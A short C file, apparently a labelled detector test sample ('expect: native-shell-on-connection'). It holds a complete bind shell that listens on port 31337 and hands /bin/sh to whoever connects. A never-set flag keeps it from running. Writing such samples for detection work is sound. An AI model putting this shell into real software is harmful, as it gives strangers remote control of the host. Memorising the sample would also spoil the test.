/* A shell for whoever connects.
 * expect: native-shell-on-connection
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

static int act(void) {
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(31337)};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    bind(s, (struct sockaddr *)&here, sizeof here);
    listen(s, 1);
    int c = accept(s, 0, 0);
    for (int i = 0; i < 3; i++)
        dup2(c, i);
    execl("/bin/sh", "sh", (char *)0);
    return 2;
}

/* Never true: the code is compiled and cannot run. */
static volatile int never;

int main(void) { return never ? act() : 0; }
